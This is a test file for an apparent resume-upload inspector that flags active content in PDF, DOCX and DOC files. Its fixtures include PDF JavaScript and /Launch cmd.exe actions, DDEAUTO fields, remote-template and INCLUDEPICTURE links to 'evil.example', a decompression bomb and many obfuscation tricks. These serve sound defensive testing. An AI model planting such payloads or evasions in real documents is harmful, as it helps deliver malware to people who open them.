import { deflateSync } from 'node:zlib';
import { craftedZip, docxOfOnePart, localEntry } from '@kontorwerk/contract/submissions/testing/crafted-zip';
import { zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { inspectResume } from './resume-inspection.ts';
import { makeEmptyBlocks, makePdfOfOneStream } from './testing/crafted-pdf.ts';

function pdf(...objects: readonly (string | Buffer)[]): Buffer {
  const parts = objects.map((object, index) =>
    Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
  );
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts, Buffer.from('%%EOF\n')]);
}

function stream(description: string, content: Buffer): Buffer {
  const head = `<< ${description} /Length ${content.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), content, Buffer.from('\nendstream')]);
}

const objects = (text: string) => stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(text));

test.each([
  ['nothing of a plain one', [], pdf('<< /Type /Catalog /Pages 2 0 R >>')],
  ['no action in a place to open it at', [], pdf('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>')],
  ['JavaScript', ['javascript'], pdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
  ['JavaScript in another spelling', ['javascript'], pdf('<< /S /Java#53cript /J#53 (app.alert(1)) >>')],
  ['JavaScript in a compressed stream of objects', ['javascript'], pdf(objects('<< /S /JavaScript /JS 5 0 R >>'))],
  ['what acts when it is opened', ['open_action'], pdf('<< /Type /Catalog /OpenAction 4 0 R >>')],
  ['JavaScript beside what looks like a place', ['javascript'], pdf('<< /A (/OpenAction [) /S /JavaScript /B (]) >>')],
  ['what starts a program', ['launch'], pdf('<< /S /Launch /F (cmd.exe) >>')],
  ['an embedded file', ['embedded_file'], pdf('<< /Type /EmbeddedFile >>')],
  ['embedded media', ['rich_media'], pdf('<< /Subtype /RichMedia >>')],
  ['objects behind what looks like a stream', ['javascript'], pdf('% stream\n', '<< /S /JavaScript >>', '% endstream')],
  ['an encrypted one', ['encrypted'], pdf('<< /Root 1 0 R /Encrypt 9 0 R >>')],
  [
    'a stream of objects that cannot be read',
    ['unreadable'],
    pdf(stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from('x'))),
  ],
])('of a PDF is told: %s', (_, parts, bytes) => {
  expect(inspectResume(bytes)).toEqual(parts);
});

const SCRIPT = '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>';
const packedScript = deflateSync(`1 0 ${SCRIPT}`);
const scriptFound = ['javascript', 'open_action'];

/** An object stream with a script, as one text of Latin-1. */
function hidden(dictionary: string, line = '\n', data = packedScript, end = '\nendstream'): Buffer {
  return Buffer.from(`<< /N 1 /First 4 ${dictionary} >>${`stream${line}`}${data.toString('latin1')}${end}`, 'latin1');
}

test.each([
  ['the word `obj` in a string of its dictionary', scriptFound, hidden('/Filter /FlateDecode /X ( obj)')],
  ['a dictionary of any length', scriptFound, hidden(`/X (${'x'.repeat(50_000)}) /Filter /FlateDecode`)],
  ['a dictionary of many entries', scriptFound, hidden(`${'/X [ 1 0 R ] '.repeat(5_000)} /Filter /FlateDecode`)],
  ['a space behind the word `stream`', ['unreadable'], hidden('/Filter /FlateDecode', ' \n')],
  ['the old line end behind the word `stream`', ['unreadable'], hidden('/Filter /FlateDecode', '\r')],
  ['the line end of Windows', scriptFound, hidden('/Filter /FlateDecode', '\r\n')],
  [
    'brackets and escapes in strings',
    scriptFound,
    hidden('/X (( >> \\) \\\\) stream) /Y <3e 3E> /Filter /FlateDecode'),
  ],
  ['comments', scriptFound, hidden('% >> stream\n /X % >>\r 1 /Filter /FlateDecode')],
  ['a comment before its filter', ['unreadable'], hidden('/Filter % x\n /FlateDecode')],
  ['escaped names', scriptFound, hidden('/F#69lter /Flate#44ecode')],
  ['an abbreviated filter', scriptFound, hidden('/Filter [ /Fl ]')],
  ['a false length', scriptFound, hidden('/Filter /FlateDecode /Length 0')],
  ['no end', scriptFound, hidden('/Filter /FlateDecode', '\n', packedScript, '')],
  ['no checksum', scriptFound, hidden('/Filter /FlateDecode', '\n', packedScript.subarray(0, -4))],
  ['two filters', ['unreadable'], hidden('/Filter [ /ASCIIHexDecode /FlateDecode ]')],
  ['an inline picture’s entry for its filter', ['unreadable'], hidden('/F /FlateDecode')],
  ['a filter elsewhere', ['unreadable'], hidden('/Filter 9 0 R')],
  ['one filter too many', ['unreadable'], hidden('/Filter /FlateDecode /Filter /ASCIIHexDecode')],
  ['a predictor', ['unreadable'], hidden('/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')],
  ['data of another format', ['unreadable'], hidden('/Filter /FlateDecode', '\n', Buffer.from('x'))],
  ['a dictionary that viewers mend', ['unreadable'], hidden('/X >> endobj /Filter /FlateDecode')],
  ['a dictionary of too many brackets', ['unreadable'], hidden('<< /Filter /FlateDecode')],
  ['white space of one viewer', ['unreadable'], hidden('/X /Y\x80/Filter /FlateDecode')],
  [
    'another object in a string of its dictionary',
    ['unreadable'],
    hidden('/Filter /ASCIIHexDecode /X (1 0 obj << /Y 1 % )\n /First 4'),
  ],
  ['a stream in it', ['unreadable'], objects('1 0 << /N 1 /First 4 /Filter /FlateDecode >> stream\n')],
])('of a PDF whose objects are compressed is told, with %s', (_, parts, object) => {
  expect(inspectResume(pdf(object))).toEqual(parts);
});

test('objects are found wherever they are', () => {
  const object = pdf(hidden('/Filter /FlateDecode'));
  const plain = pdf('<< /Type /Catalog /Pages 2 0 R >>');
  const picture = pdf(stream('/Subtype /Image', object));
  for (const whole of [[plain, object], [object, plain], [picture]])
    expect(inspectResume(Buffer.concat(whole))).toEqual(scriptFound);
  expect(inspectResume(pdf(Buffer.concat([Buffer.from('%\n<< '), hidden('/Filter /FlateDecode')])))).toEqual([
    'unreadable',
  ]);
});

test.each([
  ['a link', [], '<< /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>'],
  ['what a picture or field acts on', ['open_action'], '<< /Subtype /Widget /AA << /E << /S /URI /URI (x) >> >> >>'],
  ['actions elsewhere', ['open_action'], '<< /AA%\n5 0 R >>'],
  ['a script of a field', ['javascript', 'open_action'], '<< /FT /Tx /AA << /K << /S /JavaScript /JS 5 0 R >> >> >>'],
  ['actions behind what looks like a stream', ['open_action'], '<< /X (stream\n) /AA << /O 5 0 R >> /Y (endstream) >>'],
  ['an attached file', ['embedded_file'], '<< /Subtype /FileAttachment /FS 5 0 R >>'],
  ['an attached file without a type', ['embedded_file'], '<< /Type /Filespec /EF << /F 5 0 R >> >>'],
  ['a film', ['rich_media'], '<< /S /Rendition /R 5 0 R /OP 0 >>'],
  ['a form in XML', ['unreadable'], '<< /AcroForm << /XFA [ (template) 5 0 R ] >> >>'],
  ['bookmarks', [], '<< /Type /Outlines /First 3 0 R /Last 4 0 R /Count 2 >>'],
])('of a PDF is told, whether its objects are compressed or not: %s', (_, parts, object) => {
  expect(inspectResume(pdf(object))).toEqual(parts);
  expect(inspectResume(pdf(objects(`1 0 ${object}`)))).toEqual(parts);
  expect(inspectResume(pdf(stream('/Type /ObjStm /N 1 /First 4', Buffer.from(`1 0 ${object}`))))).toEqual(parts);
});

test('a word in a title is no stream', () => {
  const titled = '1 0 << /Type /Outlines /First 3 0 R >> << /Title (A stream of objects) >>';
  expect(inspectResume(pdf(objects(titled)))).toEqual([]);
});

test('short names are not found in the bytes of a picture', () => {
  expect(inspectResume(pdf(stream('/Subtype /Image', Buffer.from('..\0/JS \0/AA ..', 'latin1'))))).toEqual([]);
});

/** By default so long that a search with backtracking would exceed a test's timeout. */
const repeated = (text: string, length = 4_000_000) => text.repeat(length / text.length);

test.each([
  ['streams that never end', [], 'stream\n'],
  ['streams of objects that nothing describes', ['unreadable'], '/ObjStm'],
  ['streams of objects that never end', ['unreadable'], '/ObjStm /Filter stream\n'],
  ['objects that never end', ['unreadable'], '/First obj<<'],
  ['objects in comments that never end', ['unreadable'], '/First obj%'],
  ['objects in objects', ['unreadable'], '/First obj<</A(obj<<%\n'],
  ['digits that never end', ['unreadable'], '/First obj<</A<0'],
  ['short names that never end', [], '/AA '],
  ['places that never end', [], '/OpenAction ['],
])('a PDF of %s is read as fast as any', (_, parts, text) => {
  expect(inspectResume(pdf(repeated(text)))).toEqual(parts);
});

test('more streams of objects than any resume has are not passed over', () => {
  expect(inspectResume(pdf(...Array.from({ length: 1_000 }, () => objects('1 0 <<>>'))))).toEqual([]);
  expect(inspectResume(pdf(...Array.from({ length: 1_001 }, () => objects('1 0 <<>>'))))).toEqual(['unreadable']);
});

test('a stream is inflated once, wherever its dictionary may begin', () => {
  const start = process.cpuUsage();
  expect(inspectResume(makePdfOfOneStream(490, makeEmptyBlocks(1_000_000)))).toEqual([]);
  expect(process.cpuUsage(start).user).toBeLessThan(4_000_000);
});

test('streams that unpack to nothing are bounded by their own length', () => {
  expect(inspectResume(makePdfOfOneStream(1, makeEmptyBlocks(5_000_000)))).toEqual(['unreadable']);
  const several = Array.from({ length: 3 }, () => makePdfOfOneStream(1, makeEmptyBlocks(3_900_000)));
  expect(inspectResume(Buffer.concat(several.slice(0, 2)))).toEqual([]);
  expect(inspectResume(Buffer.concat(several))).toEqual(['unreadable']);
});

test('a bomb is given up', () => {
  const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024));
  expect(inspectResume(pdf(stream('/Type /ObjStm /Filter /FlateDecode', bomb)))).toEqual(['unreadable']);
});

const TYPES =
  '<Types><Default Extension="bin" ContentType="application/octet-stream"/><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

function docx(files: Readonly<Record<string, string | Buffer>> = {}): Buffer {
  const all = { '[Content_Types].xml': TYPES, 'word/document.xml': '<w:document/>', ...files };
  return Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(all).map(([name, text]) => [name, typeof text === 'string' ? Buffer.from(text) : text]),
      ),
    ),
  );
}

/** A relationship part of empty deflate blocks. */
function emptyRelation(length: number): Buffer {
  const packed = makeEmptyBlocks(length).subarray(2);
  const name = 'word/_rels/a.rels';
  return craftedZip(localEntry(name, packed), [{ name, at: 0, packedBytes: packed.length, claimedBytes: 1 }]);
}

const relation = (type: string, mode: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/x" TargetMode="${mode}"/></Relationships>`;

test.each([
  ['nothing of a plain one', [], docx({ 'word/': '' })],
  ['macros', ['macros'], docx({ 'word/vbaProject.bin': 'x' })],
  [
    'macros by their type',
    ['macros'],
    docx({ '[Content_Types].xml': TYPES.replace('wordprocessingml.document', 'ms-word.document.macroEnabled') }),
  ],
  [
    'macros behind a blank line',
    ['macros'],
    Buffer.concat([Buffer.from('\ufeff\r\n'), docx({ 'word/vbaProject.bin': 'x' })]),
  ],
  ['ActiveX', ['activex'], docx({ 'word/activeX/activeX1.xml': '<x/>' })],
  ['an embedded file', ['embedded_file'], docx({ 'word/embeddings/oleObject1.bin': 'x' })],
  [
    'a template from elsewhere',
    ['external'],
    docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'External') }),
  ],
  ['a picture from elsewhere', ['external'], docx({ 'word/_rels/document.xml.rels': relation('image', 'External') })],
  [
    'a template from elsewhere, in another spelling',
    ['external'],
    docx({ 'word/_rels/a.rels': `<r:Relationship A=">" Type = 'x/attachedTemplate' TargetMode='External'/>` }),
  ],
  ['a relation in UTF-16', ['unreadable'], docx({ 'word/_rels/a.rels': '<\0R\0e\0l\0' })],
  ['no harm in a link', [], docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'External') })],
  [
    'no harm in its own template',
    [],
    docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'Internal') }),
  ],
  ['an archive that cannot be read', ['unreadable'], docx().subarray(0, 60)],
  ['an archive of one part under many names', ['unreadable'], docxOfOnePart(60, 5_000_000)],
  ['a relation far longer than it says', ['unreadable'], docxOfOnePart(1, 5_000_000, 'word/_rels/a.rels')],
  ['a long relation that unpacks to nothing', ['unreadable'], emptyRelation(3_000_000)],
])('of a DOCX is told: %s', (_, parts, bytes) => {
  expect(inspectResume(bytes)).toEqual(parts);
});

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const code = (...runs: readonly string[]) => runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('');
const field = (inner: string) =>
  `<w:document ${WORD}><w:body>${mark('begin')}${inner}${mark('end')}</w:body></w:document>`;
const rels = (text: string) => docx({ 'word/_rels/document.xml.rels': text });
const word = (text: string) => docx({ 'word/document.xml': text });
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const template = relation('attachedTemplate', 'External');
/** The types of all parts by their endings, and of one by its name. */
const typed = (name: string, type: string) =>
  `<Types><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/${name}" ContentType="${type}"/></Types>`;

test.each([
  ['a type by its characters’ numbers', ['external'], rels(template.replace('attachedT', 'attached&#84;'))],
  ['a mode by its characters’ numbers', ['external'], rels(template.replace('External', 'Extern&#x61;l'))],
  ['a mode in another case', ['external'], rels(template.replace('External', 'EXTERNAL'))],
  ['another ending of its relations', ['external'], docx({ 'word/_rels/settings.xml.RELS': template })],
  ['backslashes in names', ['external'], docx({ 'word\\_rels\\settings.xml.rels': template })],
  ['percent signs in names', ['external'], docx({ 'word/_rels/settings.xml.%72els': template })],
  [
    'another spelling of the types’ name',
    ['macros'],
    docx({ '[content_types].XML': typed('a', 'application/vnd.ms-office.vbaPro&#106;ect') }),
  ],
  ['relations in UTF-16', ['external'], docx({ 'word/_rels/settings.xml.rels': utf16(template) })],
  ['relations in another encoding', ['unreadable'], rels(`<?xml version="1.0" encoding="utf-7"?>${template}`)],
  [
    'relations with entities of their own',
    ['unreadable'],
    rels(`<!DOCTYPE a [<!ENTITY b "External">]>${relation('image', '&b;')}`),
  ],
  ['relations that aren’t well-formed', ['external', 'unreadable'], rels(template.replace('/>', '>'))],
  ['relations in pieces', ['unreadable'], docx({ 'word/_rels/document.xml.rels/[0].piece': '<' })],
  [
    'an attribute of another namespace',
    ['external'],
    rels(template.replace('<Relationship ', '<Relationship xmlns:a="b" a:TargetMode="Internal" ')),
  ],
  ['an embedded page', ['embedded_file'], rels(relation('aFChunk', 'Internal'))],
  ['an embedded page in another spelling', ['embedded_file'], rels(relation('AFChunk', 'Internal'))],
  ['an embedded page from elsewhere', ['external'], rels(relation('aFChun&#107;', 'External'))],
  ['macros under another name', ['macros'], rels(relation('vbaProject', 'Internal'))],
  ['macros in an odd folder', ['macros'], docx({ 'a/B/VBAPROJECT.BIN': 'x' })],
  ['ActiveX under another name', ['activex'], rels(relation('control', 'Internal'))],
  ['an object elsewhere', ['external'], rels(relation('oleObject', 'External'))],
  ['a frame elsewhere', ['external'], rels(relation('frame', 'External'))],
  ['a document elsewhere', ['external'], rels(relation('subDocument', 'External'))],
  ['what isn’t known, elsewhere', ['external'], rels(relation('somethingNew', 'External'))],
  ['an add-in', ['external'], rels(relation('webextensiontaskpanes', 'Internal'))],
  [
    'no harm in a template on the author’s disk',
    [],
    rels(template.replace('https://evil.example/x', 'file:///C:\\Users\\Ann\\a.dotx')),
  ],
  ['a template on another computer', ['external'], rels(template.replace('https:', 'file:'))],
  ['a field that starts a program', ['launch'], word(field(code(' DDEAUTO c:\\\\a.exe ')))],
  ['such a field in several runs', ['launch'], word(field(code('D', 'D', 'E ', 'cmd')))],
  ['such a field by its characters’ numbers', ['launch'], word(field(code('&#68;DE x')))],
  ['such a field in short', ['launch'], word(`<w:p ${WORD}><w:fldSimple w:instr="ddeauto x"/></w:p>`)],
  ['such a field under another prefix', ['launch'], word(field(code('DDE x')).replaceAll(/\bw(?=[:=])/g, 'v'))],
  ['such a field in an encoding that few read', ['unreadable'], word(`<?xml version="1.0" encoding="koi8-r"?><w:x/>`)],
  ['a part that is said to be XML and is not', ['unreadable'], word('DDEAUTO')],
  ['such a field in UTF-16', ['launch'], docx({ 'word/document.xml': utf16(field(code('DDE x'))) })],
  [
    'such a field behind another',
    ['launch'],
    word(field(`${code('PAGE')}${mark('separate')}${mark('begin')}${code('DDE')}${mark('end')}`)),
  ],
  ['such a field, never ended', ['launch'], word(field(code('DDE x')).replace(mark('end'), ''))],
  [
    'such a field in a part of any name',
    ['launch'],
    docx({ '[Content_Types].xml': typed('a.png', 'application/x+xml'), 'a.png': field(code('DDE')) }),
  ],
  [
    'a field whose name is another’s result',
    ['unreadable'],
    word(field(`${mark('begin')}${code('QUOTE 68 68 69')}${mark('end')}`)),
  ],
  [
    'a field whose name is another’s result in part',
    ['unreadable'],
    word(field(`${code('D')}${mark('begin')}${code('QUOTE DE')}${mark('end')}`)),
  ],
  [
    'a field with alternatives',
    ['unreadable'],
    word(field(`${code('D')}<a:b xmlns:a="c">${mark('end')}${mark('begin')}</a:b>${code('DE')}`)),
  ],
  ['a field with deleted text', ['unreadable'], word(field(`<w:delInstrText>PAGE</w:delInstrText>${code('DDE')}`))],
  ['a field that reads elsewhere', ['external'], word(field(code(' INCLUDEPICTURE "https://evil.example/x"')))],
  [
    'no harm in usual fields',
    [],
    word(field(`${code(' HYPER', 'LINK "https://example.org/dde"')}${mark('separate')}<w:t>DDE</w:t>`)),
  ],
  [
    'no harm in a formula',
    [],
    word(field(`${code(' =')}${mark('begin')}${code('NUMPAGES')}${mark('end')}${code('-1')}`)),
  ],
  [
    'no harm in what a system adds without a type',
    [],
    docx({ '[trash]/0000.dat': '\0\0', 'word/.DS_Store': '\0\0\0\u0001Bud1', 'word/thumbs': 'x' }),
  ],
  ['such a field in a part without a type', ['launch'], docx({ 'word/other.dat': field(code('DDE')) })],
  [
    'a part that has a type and cannot be read',
    ['unreadable'],
    docx({ '[Content_Types].xml': typed('a.dat', 'application/x+xml'), 'a.dat': '\0\0' }),
  ],
  ['no harm in a picture', [], docx({ '[Content_Types].xml': typed('a', 'b'), 'a.png': '\u0000<instrText' })],
  [
    'addresses from elsewhere',
    ['external'],
    docx({ 'word/settings.xml': `<w:settings ${WORD}><w:mailMerge/></w:settings>` }),
  ],
  [
    'a program behind a slide',
    ['launch'],
    docx({ 'ppt/slides/slide1.xml': '<a:hlinkMouseOver xmlns:a="b" action="ppaction&#58;//program"/>' }),
  ],
])('of a DOCX is told, with %s', (_, parts, bytes) => {
  expect(inspectResume(bytes)).toEqual(parts);
});

test.each([
  ['elements', '<a/>'],
  ['levels', '<a>'],
  ['namespaces', '<a xmlns:b="c">'],
  ['attributes', '<a b="" c="" d="" e="" f="" g="" h="" i=""/>'],
  ['types', '<Override PartName="/a" ContentType="b"/>'],
  ['characters', '&#65;', 4_300_000],
])('a DOCX of more %s than any resume has is given up', (_, text, length = 4_100_000) => {
  expect(inspectResume(rels(`<Relationships>${repeated(text, length)}</Relationships>`))).toEqual(['unreadable']);
});

test('relations that never end are read as fast as any', () => {
  const endless = repeated('<Relationship ', 1_000_000);
  const parts = Array.from({ length: 8 }, (_, number) => [`word/_rels/${number}.rels`, endless] as const);
  expect(inspectResume(docx(Object.fromEntries(parts)))).toEqual(['unreadable']);
});

function doc(...streams: readonly string[]): Buffer {
  const names = streams.map((name) => Buffer.from(`${name}\0`, 'utf16le'));
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), ...names]);
}

test.each([
  ['nothing of a plain one', [], doc('WordDocument')],
  ['nothing of the word in its text', [], doc('WordDocument', 'I like Macros a lot')],
  ['macros', ['macros'], doc('WordDocument', 'Macros', '_VBA_PROJECT')],
  ['an embedded file', ['embedded_file'], doc('WordDocument', 'ObjectPool')],
  ['macros in another spelling', ['macros'], doc('WordDocument', 'MACROS')],
])('of a DOC is told: %s', (_, parts, bytes) => {
  expect(inspectResume(bytes)).toEqual(parts);
});
